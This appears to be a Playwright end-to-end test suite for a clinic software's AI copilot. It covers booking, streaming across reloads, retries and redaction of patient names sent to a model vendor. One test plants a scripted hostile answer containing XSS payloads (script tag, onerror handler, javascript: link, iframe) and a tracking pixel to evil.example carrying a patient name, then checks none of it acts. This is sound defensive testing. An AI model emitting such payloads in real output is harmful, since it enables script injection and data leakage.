"""The copilot in a browser: asked, watched, allowed with an edit; it goes on after a reload; its words cannot act."""

import asyncio
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

import pytest
from playwright.async_api import Browser, BrowserContext, Locator, Page, expect
from tests.engine.llm.vendors import vendor_server
from tests.engine.llm.wires import Turn
from tests.engine.redaction.egress import choose
from tests.factories.clinic import Clinic, Person
from tests.surfaces.copilot.bench import Bench, open_bench
from tests.surfaces.copilot.serving import served
from tests.web.conftest import PHONE, Accessible, SignIn, Watch

from chartside.app.wiring import House
from chartside.engine.llm import Done, ModelUnavailable, TextDelta
from chartside.engine.llm.scripted import say
from chartside.engine.supervise import Presence
from chartside.kernel import clock
from chartside.kernel.db.provision import Urls

UNKNOWN = "0195d3a0-0000-7000-8000-000000000001"
HOSTILE = f"""<script>window.acted = 1</script><img src="x" onerror="window.acted = 1">
![seen](https://evil.example/pixel.png?who=ana) [run](javascript:window.acted=1)
[the guideline](https://evil.example/guide) and [[patient:{UNKNOWN}:Mallory Made-Up]].

| Who | State |
|---|---|
| Ana | no_show |

- [x] done <iframe src="https://evil.example"></iframe>"""


@dataclass
class Stage:
    """A served application whose model says what the test wants, and a browser before it."""

    bench: Bench
    context: BrowserContext
    url: str
    alive: list[Presence] = field(default_factory=list)

    async def speak(self, *turns: Any) -> None:
        self.bench.speak(*turns)
        await self.live()

    async def live(self) -> None:
        """A sign of life, or the other server of these tests would take up what is under way here."""
        self.alive.append(Presence(self.url, self.bench.engine.holder))
        await self.alive[-1].show()


@pytest.fixture
async def stage(house: House, urls: Urls, site: str, browser: Browser) -> AsyncIterator[Stage]:
    async with open_bench(house) as bench, served(bench.app) as address:
        context = await browser.new_context(
            base_url=address, locale="en-US", reduced_motion="reduce"
        )
        watch = Watch(address, [])
        watch.listen(context)
        made = Stage(bench, context, urls.app)
        yield made
        await context.close()
        await bench.engine.close(1)
        for presence in made.alive:
            await presence.hide()
        assert watch.faults == []


def box(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Message to the copilot")


def answers(page: Page) -> Locator:
    return page.get_by_role("article", name="Copilot's answer")


async def ask(page: Page, words: str) -> None:
    await box(page).fill(words)
    await send(page)


async def send(page: Page) -> None:
    """What is under way must rest first: until then the box keeps its words."""
    await expect(page.get_by_role("button", name="Send", exact=True)).to_be_enabled()
    await page.keyboard.press("Enter")


async def mark(where: Locator, words: str) -> None:
    """As with a mouse: some of what stands there."""
    await expect(where).to_contain_text(words)
    await where.evaluate(
        """(root, words) => {
            const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
            while (walker.nextNode()) {
                const at = walker.currentNode.data.indexOf(words);
                if (at < 0) continue;
                document.getSelection().setBaseAndExtent(walker.currentNode, at, walker.currentNode, at + words.length);
                return;
            }
        }""",
        words,
    )


async def made(who: Person, path: str, body: dict[str, Any]) -> str:
    response = await who.post(path, body)
    assert response.status_code in (200, 201), response.text
    return str(response.json()["id"])


async def test_a_question_is_answered_and_a_visit_booked_as_edited(
    page: Page, clinic: Clinic, sign_in: SignIn, assert_accessible: Accessible
) -> None:
    admin, today = clinic.admin, clock.today(clinic.scope().zone)
    doctor = {"name": "Vera Lind", "user_id": str(clinic.clinician.user_id)}
    professional = await made(admin, "/api/staff/professionals", doctor)
    kind = {"name": "Review", "code": "review", "minutes": 30}
    visit = {
        "patient_id": (await clinic.patient())["id"],
        "professional_id": professional,
        "type_id": await made(admin, "/api/scheduling/appointment-types", kind),
        "outside_hours": True,
        "in_past": True,
    }
    for weekday in range(7):
        hours = {"professional_id": professional, "weekday": weekday}
        hours |= {"opens": "08:00", "closes": "18:00"}
        await made(admin, "/api/scheduling/working-hours", hours)
    at = {"local_date": today.isoformat(), "local_time": "23:00"}
    await made(admin, "/api/scheduling/appointments", visit | at)

    await sign_in(page, clinic, clinic.clinician, "/")
    await page.get_by_role("button", name="Copilot").click()
    await page.get_by_role("button", name="Who is coming today?").click()
    told = answers(page).last
    await told.get_by_role("button", name="23:00").click()
    peek = page.get_by_role("dialog").filter(has_text="Review · with Vera Lind")
    await expect(peek).to_be_visible()  # the answer says so too, before this opens
    await peek.press("Escape")
    await expect(peek).to_have_count(0)

    await box(page).press_sequentially("book #An")
    await page.get_by_role("option", name="Ana Ruiz").click()
    await box(page).press_sequentially("a review tomorrow at 10")
    await send(page)
    card = page.get_by_role("article", name="Book Ana Ruiz")
    await expect(card).to_contain_text("10:00–10:30")
    await assert_accessible(page)
    await card.get_by_role("button", name="Edit").click()
    await card.get_by_label("Local time").fill("11:00")
    await card.get_by_role("button", name="Allow as edited").click()
    await expect(card).to_contain_text("Committed")
    await expect(card).to_contain_text("11:00–11:30")
    await expect(page.get_by_role("button", name="Stop")).to_have_count(0)

    tomorrow = (today + timedelta(days=1)).isoformat()
    found = await clinic.clinician.get(f"/api/scheduling/schedule?from_day={tomorrow}")
    assert [one["local_time"][:5] for one in found.json()["items"]] == ["11:00"]


async def test_an_answer_goes_on_after_a_reload_and_in_a_second_tab_and_can_be_stopped(
    stage: Stage, sign_in: SignIn
) -> None:
    bench, page = stage.bench, await stage.context.new_page()
    gate, never = asyncio.Event(), asyncio.Event()
    await stage.speak(
        [TextDelta("First words"), gate.wait, TextDelta(" and the rest."), Done("stop")],
        [TextDelta("Endless"), never.wait, Done("stop")],
    )
    await sign_in(page, bench.clinic, bench.doctor, "/")
    await page.get_by_role("button", name="Copilot").click()
    await ask(page, "tell me slowly")
    await expect(answers(page)).to_contain_text("First words")
    await page.reload()
    await expect(answers(page)).to_contain_text("First words")
    other = await stage.context.new_page()
    mine = (await bench.doctor.get("/api/copilot/threads")).json()["items"]
    await other.goto(f"/copilot/{mine[0]['id']}")
    await expect(answers(other)).to_contain_text("First words")
    gate.set()
    for tab in (page, other):
        await expect(answers(tab)).to_contain_text("First words and the rest.")
    await expect(page.get_by_role("button", name="Stop")).to_have_count(0)

    await ask(page, "and now without an end")
    await expect(answers(page).last).to_contain_text("Endless")
    await expect(answers(other).last).to_contain_text("Endless")
    await page.get_by_role("button", name="Stop").click()
    await expect(answers(page).last).to_contain_text("Stopped by you.")
    await expect(answers(page).last).to_contain_text("Endless")


async def test_a_chip_that_was_opened_stays_open_while_the_answer_grows_and_ends(
    stage: Stage, sign_in: SignIn
) -> None:
    bench, page = stage.bench, await stage.context.new_page()
    grows, ends = asyncio.Event(), asyncio.Event()
    admin = bench.clinic.admin
    named = f"[[person:{admin.user_id}:{admin.name}]]"
    begin, go_on, end = f"Ask {named} first. ", "She is in. ", f"Or {named} later."
    await stage.speak([TextDelta(begin), grows.wait, TextDelta(go_on), ends.wait, *say(end)])
    await sign_in(page, bench.clinic, bench.doctor, "/copilot")
    await box(page).press_sequentially(f"is @{admin.name[:6]}")
    await page.get_by_role("option", name=admin.name).click()
    await box(page).press_sequentially("in today?")
    await send(page)
    await answers(page).get_by_role("button", name=admin.name).click()
    peek = page.get_by_role("dialog").filter(has_text=admin.email)
    await expect(peek).to_be_visible()
    opened = await peek.element_handle()
    assert opened
    grows.set()
    await expect(answers(page)).to_contain_text("She is in.")
    ends.set()
    await expect(answers(page).get_by_role("link", name="What was sent")).to_be_visible()
    await expect(answers(page)).to_contain_text("later.")
    assert await opened.is_visible()
    await peek.press("Escape")
    await expect(peek).to_have_count(0)


async def test_what_an_answer_says_cannot_act_and_a_phone_shows_it_as_a_sheet(
    stage: Stage, sign_in: SignIn, assert_accessible: Accessible
) -> None:
    bench, page = stage.bench, await stage.context.new_page()
    await stage.speak(say(HOSTILE))
    await page.set_viewport_size(PHONE)
    await sign_in(page, bench.clinic, bench.doctor, "/")
    await page.get_by_role("button", name="Copilot").click()
    await expect(page.get_by_role("main")).to_be_hidden()
    await ask(page, "what do we know?")
    told = answers(page)
    await expect(told.get_by_role("button", name="Copy")).to_be_visible()
    await expect(told).to_contain_text("Mallory Made-Up")
    await expect(told).to_contain_text("<script>window.acted = 1</script>")
    await expect(told.get_by_role("cell", name="no show")).to_be_visible()
    assert await told.locator("img, iframe, script, input").count() == 0
    assert await told.get_by_role("button", name="Mallory").count() == 0
    links = told.get_by_role("link").filter(has_not=page.locator("svg"))
    assert [await one.get_attribute("href") for one in await links.all()] == [
        "https://evil.example/guide"
    ]
    assert "noopener" in str(await links.first.get_attribute("rel"))
    await expect(told).to_contain_text("the guideline (https://evil.example/guide)")
    assert await page.evaluate("window.acted") is None
    await assert_accessible(page)
    await told.get_by_role("button", name="Bad answer").click()
    await told.get_by_label("What was wrong?").fill("Made up")
    await told.get_by_role("button", name="Send").click()
    await expect(told.get_by_role("button", name="Bad answer")).to_have_attribute(
        "aria-pressed", "true"
    )


async def test_a_failed_answer_is_tried_again_words_are_mended_and_a_talk_is_named_and_removed(
    stage: Stage, sign_in: SignIn
) -> None:
    bench, page = stage.bench, await stage.context.new_page()
    await stage.speak(
        [ModelUnavailable()],
        say("It is open until six."),
        say("On Sundays it is closed."),
    )
    await sign_in(page, bench.clinic, bench.clinic.admin, "/copilot")
    await ask(page, "when do we close?")
    failed = answers(page).last
    await expect(failed).to_contain_text("The model cannot be reached just now.")
    await failed.get_by_role("button", name="Try again").click()
    await expect(answers(page).last).to_contain_text("It is open until six.")
    await expect(answers(page)).to_have_count(1)

    asked = page.get_by_role("article", name="You")
    await asked.get_by_role("button", name="Edit and send again").click()
    await asked.get_by_role("textbox").fill("when do we close on Sundays?")
    await asked.get_by_role("button", name="Send again").click()
    await expect(answers(page).last).to_contain_text("On Sundays it is closed.")
    await expect(asked).to_have_count(1)
    await expect(asked).to_contain_text("on Sundays")

    talks = page.get_by_role("navigation", name="Conversations")
    for act, said in (("Rename", "Opening hours"), ("Delete", None)):
        await talks.get_by_role("button").first.click()
        await page.get_by_role("menuitem", name=act).click()
        dialog = page.get_by_role("dialog", name=act)
        if said:
            await dialog.get_by_label("Name").fill(said)
            await page.keyboard.press("Enter")
            await expect(talks.get_by_role("link", name=said)).to_be_visible()
        else:
            await dialog.get_by_role("button", name=act).click()
            await expect(talks).to_contain_text("No conversations yet")
    assert (await bench.clinic.admin.get("/api/copilot/threads")).json()["items"] == []


async def test_what_left_for_a_vendor_stands_beside_what_was_meant(
    stage: Stage, sign_in: SignIn, assert_accessible: Accessible
) -> None:
    bench, page = stage.bench, await stage.context.new_page()
    await bench.clinic.patient(given_name="Wilhelmina", family_name="Quispe")
    async with vendor_server("openai", [Turn(text="She is well.")]) as server:
        await choose(bench.clinic, "openai", server.base_url)
        bench.speak_as_wired()
        await stage.live()
        await sign_in(page, bench.clinic, bench.clinic.admin, "/copilot")
        await ask(page, "how is Wilhelmina Quispe?")
        await expect(answers(page)).to_contain_text("She is well.")
        await answers(page).get_by_role("link", name="What was sent").click()
        main = page.get_by_role("main")
        await expect(main).to_contain_text("how is Wilhelmina Quispe?")
        (request,) = server.requests
        assert "Quispe" not in str(request.body)
        token = re.search(r"how is (.+?)\?", str(request.body))
        assert token
        await expect(main).to_contain_text(token[1])
        await assert_accessible(page)


async def test_what_left_and_should_not_have_is_marked_and_leaves_no_more(
    stage: Stage, sign_in: SignIn, assert_accessible: Accessible
) -> None:
    bench, page = stage.bench, await stage.context.new_page()
    turns = [Turn(text="It does."), Turn(text="It is.")]
    async with vendor_server("openai", turns) as server:
        await choose(bench.clinic, "openai", server.base_url)
        bench.speak_as_wired()
        await stage.live()
        await sign_in(page, bench.clinic, bench.clinic.admin, "/copilot")
        await ask(page, "Does Compass cover the crown?")
        await expect(answers(page)).to_contain_text("It does.")
        await answers(page).get_by_role("link", name="What was sent").click()
        left = page.get_by_role("group", name="As it was sent").filter(has_text="Compass")
        bar = page.get_by_role("region", name="Take it out from now on")
        for marked, name in (
            (" cover ", "cover"),
            ("ompas", "Compass"),
            ("the crown?", "the crown"),
        ):
            await mark(left.last, marked)
            await expect(bar).to_contain_text(f"Should “{name}” have stayed here?")
        await mark(left.last, "Compass ")
        await expect(bar).to_contain_text("Should “Compass” have stayed here?")
        await assert_accessible(page)
        await bar.get_by_role("button").click()
        await expect(bar).to_contain_text("“Compass” goes out of everything")
        await page.go_back()
        await ask(page, "Is Compass open on Friday?")
        await expect(answers(page).last).to_contain_text("It is.")
        first, second = (str(request.body) for request in server.requests)
        assert "Compass" in first
        assert "Compass" not in second
        await answers(page).last.get_by_role("link", name="What was sent").click()
        read = page.get_by_role("group", name="As you read it").filter(has_text="Is Compass open")
        await mark(read, "Friday")
        await expect(bar).to_contain_text("Should “Friday” have stayed here?")
        await mark(read.locator("mark", has_text="Compass"), "Compass")
        await expect(bar).to_have_count(0)
        await page.goto("/admin/ai")
        await expect(page.get_by_text("Compass", exact=True)).to_be_visible()
        names = page.get_by_role("combobox", name="Names that never leave")
        await names.press_sequentially("Q,")
        await page.get_by_role("button", name="Save").click()
        await expect(names).to_have_attribute("aria-invalid", "true")
        await expect(
            page.get_by_text("A name needs two letters or figures.", exact=True)
        ).to_be_visible()
        await names.press("Backspace")
        await names.press_sequentially("Tri-Rivers,")
        await page.get_by_role("button", name="Save").click()
        await expect(page.get_by_text("Saved.")).to_be_visible()
        await assert_accessible(page)
    kept = (await bench.clinic.admin.get("/api/ai/settings")).json()
    assert kept["always_out"] == ["Compass", "Tri-Rivers"]
